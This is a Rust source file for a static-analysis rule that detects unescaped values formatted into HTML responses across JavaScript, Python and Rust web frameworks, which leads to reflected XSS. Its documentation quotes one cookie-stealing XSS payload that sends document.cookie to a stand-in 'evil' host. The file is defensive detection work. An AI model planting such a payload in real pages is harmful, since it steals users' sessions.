use super::taint::{self, Html};
use crate::lang::js::{self, JsCx};
use crate::lang::python::{self as py, PyCx};
use crate::lang::rust::{lit_str, RustCx, RustNode};
use crate::lang::NodeExt;
use tree_sitter::Node;

crate::declare_rule! {
    /// ## What it does
    /// Flags HTTP responses whose HTML body is formatted from non-constant values without
    /// escaping: Express `res.send/write/end(`<h1>${name}</h1>`)`, Koa `ctx.body = ...`, Hono
    /// `c.html(...)`; Django `HttpResponse(f"...")`, Flask `make_response(...)`/`Response(...)`
    /// and Flask views returning an f-string of markup, Starlette/FastAPI `HTMLResponse(...)`;
    /// Rust axum `Html(format!(..))`, actix-web
    /// `HttpResponse::Ok().content_type("text/html").body(format!(..))`, warp
    /// `warp::reply::html(format!(..))`, Rocket `RawHtml(format!(..))`. Values read straight from
    /// the request (`req.query.q`, `request.args["q"]`) are flagged even without markup around
    /// them, since these frameworks serve strings as `text/html`.
    ///
    /// ## Why is this bad?
    /// Formatting a value into markup does not escape it: a search term like
    /// `<script>fetch('//evil?c='+document.cookie)</script>` is reflected into the page and runs
    /// in the victim's browser (reflected XSS).
    ///
    /// ## Example
    /// ```python
    /// return HttpResponse(f"<h1>Results for {request.GET['q']}</h1>")
    /// ```
    /// ```rust
    /// Html(format!("<h1>Hello {name}</h1>"))
    /// ```
    ///
    /// ## Use instead
    /// ```python
    /// return render(request, "results.html", {"q": request.GET["q"]})   # autoescaped
    /// ```
    /// ```rust
    /// Html(format!("<h1>Hello {}</h1>", html_escape::encode_text(&name)))
    /// ```
    ///
    /// ## How to fix
    /// Render through an autoescaping template engine (Jinja2, Django templates, askama, maud,
    /// JSX), or escape every value with `html.escape`/`markupsafe.escape`,
    /// `html_escape::encode_text`, `escape-html`.
    ///
    /// ## Not flagged
    /// Constant bodies, escaped or sanitized values, numbers, JSON responses, template renders
    /// (`render(..)`, `template.render()`), values whose origin is not visible, and test code.
    ///
    /// ## References
    /// - CWE-79: Improper Neutralization of Input During Web Page Generation
    /// - OWASP Cross Site Scripting Prevention Cheat Sheet
    pub HTML_RESPONSE_FROM_FORMAT {
        id: "html-response-from-format",
        title: "HTML response formatted from unescaped values",
        severity: High,
        confidence: Medium,
        cwe: [79],
        checklist: 7,
        languages: [Rust, JavaScript, TypeScript, Python],
        fix: None,
    }
}

/// Reports when `h` is markup built from non-constant values (or, with `source_ok`, a request value).
fn reportable(h: &Html, need_markup: bool) -> bool {
    match h {
        Html::Source { .. } => true,
        Html::Dynamic { .. } => !need_markup || h.looks_like_html(),
        _ => false,
    }
}

// ------------------------------------------------------------------ JavaScript / TypeScript

const JS_HELP: &str = "render through an escaping template engine, or escape each value (escapeHtml(x) from `escape-html`) before formatting it into markup";

fn js_response(path: &str) -> bool {
    let last = path.rsplit('.').next().unwrap_or(path);
    matches!(last, "res" | "response" | "resp")
}

/// The nodes [`check_js`] is called on.
pub(crate) const JS_ON: crate::lang::On =
    crate::lang::On::Kinds(&["program", "call_expression", "assignment_expression"]);

pub(crate) fn check_js(cx: &mut JsCx<'_, '_>, node: Node<'_>) {
    if node.k() == "program" {
        taint::note_generated(cx);
        return;
    }
    if taint::is_generated() {
        return;
    }
    if cx.file.is_test {
        return;
    }
    let src = cx.src;
    let (value, api) = match node.k() {
        "call_expression" => {
            let Some(f) = node
                .field("function")
                .filter(|f| f.k() == "member_expression")
            else {
                return;
            };
            let Some(name) = js::callee_name(src, node) else {
                return;
            };
            let recv = f
                .field("object")
                .and_then(|o| js::member_path(src, o))
                .unwrap_or_default();
            let ok = match name {
                "send" | "write" | "end" => js_response(&recv),
                "html" => recv == "c" || recv == "ctx" || recv == "context",
                _ => false,
            };
            if !ok {
                return;
            }
            let Some(a) = js::call_args(node).into_iter().next() else {
                return;
            };
            (a, format!("{recv}.{name}"))
        }
        "assignment_expression" => {
            let (Some(l), Some(r)) = (node.field("left"), node.field("right")) else {
                return;
            };
            let p = js::member_path(src, l).unwrap_or_default();
            if p != "ctx.body" && p != "ctx.response.body" {
                return;
            }
            (r, p)
        }
        _ => return,
    };
    let h = taint::js(src, value);
    // A bare request value sent by res.send is served as text/html; res.write/end depend on headers.
    if !reportable(&h, true) {
        return;
    }
    let Some(v) = taint::verdict(&h) else { return };
    let msg = format!("{} is sent as the HTML response by `{api}`", v.what);
    taint::emit(
        cx.file,
        &HTML_RESPONSE_FROM_FORMAT,
        value.byte_range(),
        msg,
        JS_HELP,
        &v,
    );
}

// ------------------------------------------------------------------ Python

const PY_HELP: &str = "render a template (autoescaped), or escape each value with markupsafe.escape()/html.escape() before formatting it into markup";

fn py_flask_view(src: &str, ret: Node<'_>) -> bool {
    let Some(def) = py::enclosing_function(ret).filter(|d| d.k() == "function_definition") else {
        return false;
    };
    py::decorators(def).iter().any(|d| {
        let f = if d.k() == "call" {
            d.field("function")
        } else {
            Some(*d)
        };
        f.and_then(|f| py::dotted(src, f)).is_some_and(|p| {
            let last = p.rsplit('.').next().unwrap_or("");
            p.contains('.') && matches!(last, "route" | "get" | "post" | "put" | "patch" | "delete")
        })
    })
}

/// The nodes [`check_py`] is called on.
pub(crate) const PY_ON: crate::lang::On = crate::lang::On::Kinds(&["call", "return_statement"]);

pub(crate) fn check_py(cx: &mut PyCx<'_, '_>, node: Node<'_>) {
    if cx.file.is_test {
        return;
    }
    let src = cx.src;
    let (value, api) = match node.k() {
        "call" => {
            let Some(resolved) = cx.resolved_callee(node) else {
                return;
            };
            let last = resolved.rsplit('.').next().unwrap_or("");
            let ok = match last {
                "HttpResponse" => resolved.starts_with("django") || resolved == "HttpResponse",
                "HTMLResponse" => true,
                "make_response" => resolved.starts_with("flask") || resolved == "make_response",
                "Response" => resolved.starts_with("flask") || resolved.starts_with("werkzeug"),
                _ => false,
            };
            if !ok {
                return;
            }
            let Some(a) = py::positional_args(node)
                .into_iter()
                .next()
                .or_else(|| py::keyword_arg(src, node, "content"))
            else {
                return;
            };
            // A non-HTML content type makes it plain data.
            if let Some(ct) = py::keyword_arg(src, node, "content_type")
                .or_else(|| py::keyword_arg(src, node, "mimetype"))
                .or_else(|| py::keyword_arg(src, node, "media_type"))
            {
                if py::string_value(src, ct).is_some_and(|t| !t.contains("html")) {
                    return;
                }
            }
            (a, last.to_owned())
        }
        "return_statement" => {
            if !cx.imports_module("flask") {
                return;
            }
            let Some(v) = node.named_child(0) else { return };
            if v.k() != "string" && v.k() != "binary_operator" && v.k() != "call" {
                return;
            }
            if !py_flask_view(src, node) {
                return;
            }
            (v, "a Flask view".to_owned())
        }
        _ => return,
    };
    let h = taint::python(src, value);
    if !reportable(&h, true) {
        return;
    }
    let Some(v) = taint::verdict(&h) else { return };
    let msg = if api == "a Flask view" {
        format!("{} is returned as HTML from a Flask view", v.what)
    } else {
        format!("{} is sent as the HTML response by `{api}`", v.what)
    };
    taint::emit(
        cx.file,
        &HTML_RESPONSE_FROM_FORMAT,
        value.byte_range(),
        msg,
        PY_HELP,
        &v,
    );
}

// ------------------------------------------------------------------ Rust

const RS_HELP: &str = "render through an escaping template engine (askama, maud, tera), or escape each value with html_escape::encode_text(&value) before formatting";

/// `.content_type("text/html")` / `.insert_header(ContentType::html())` somewhere down a builder chain.
fn chain_is_html(cx: &RustCx<'_, '_, '_>, mut e: &syn::Expr) -> bool {
    for _ in 0..32 {
        match e {
            syn::Expr::MethodCall(m) => {
                let name = m.method.to_string();
                if matches!(
                    name.as_str(),
                    "content_type" | "insert_header" | "header" | "append_header"
                ) {
                    if let Some(a) = m.args.first() {
                        if lit_str(a).is_some_and(|t| t.contains("text/html"))
                            || cx.text_of(a).contains("ContentType::html")
                            || cx.text_of(a).contains("TEXT_HTML")
                        {
                            return true;
                        }
                    }
                    if m.args.len() == 2
                        && m.args
                            .iter()
                            .nth(1)
                            .and_then(lit_str)
                            .is_some_and(|t| t.contains("text/html"))
                    {
                        return true;
                    }
                }
                e = &m.receiver;
            }
            _ => return false,
        }
    }
    false
}

pub(crate) fn check_rust(cx: &mut RustCx<'_, '_, '_>, node: RustNode<'_>) {
    if cx.file.is_test || cx.in_test() {
        return;
    }
    let RustNode::Expr(e) = node else { return };
    let (arg, api) = match e {
        syn::Expr::Call(c) => {
            let syn::Expr::Path(p) = &*c.func else { return };
            let path = cx.resolve_path(&p.path);
            let last = path.rsplit("::").next().unwrap_or("");
            let head = path.split("::").next().unwrap_or("");
            let ok = match last {
                "Html" => {
                    matches!(head, "axum" | "poem" | "salvo" | "leptos_axum" | "tide")
                        || (path == "Html"
                            && cx
                                .uses
                                .values()
                                .any(|u| u.starts_with("axum") || u.starts_with("poem")))
                }
                "RawHtml" => head == "rocket" || path == "RawHtml",
                "html" => path == "warp::reply::html" || path == "reply::html",
                _ => false,
            };
            if !ok {
                return;
            }
            let Some(a) = c.args.first() else { return };
            (a, last.to_owned())
        }
        syn::Expr::MethodCall(m) => {
            if m.method != "body" || !chain_is_html(cx, &m.receiver) {
                return;
            }
            let Some(a) = m.args.first() else { return };
            (a, "HttpResponse::body".to_owned())
        }
        _ => return,
    };
    let h = taint::rust(cx, arg);
    if !reportable(&h, true) {
        return;
    }
    let Some(v) = taint::verdict(&h) else { return };
    let msg = format!("{} is sent as the HTML response by `{api}`", v.what);
    let range = cx.range_of(arg);
    taint::emit(cx.file, &HTML_RESPONSE_FROM_FORMAT, range, msg, RS_HELP, &v);
}
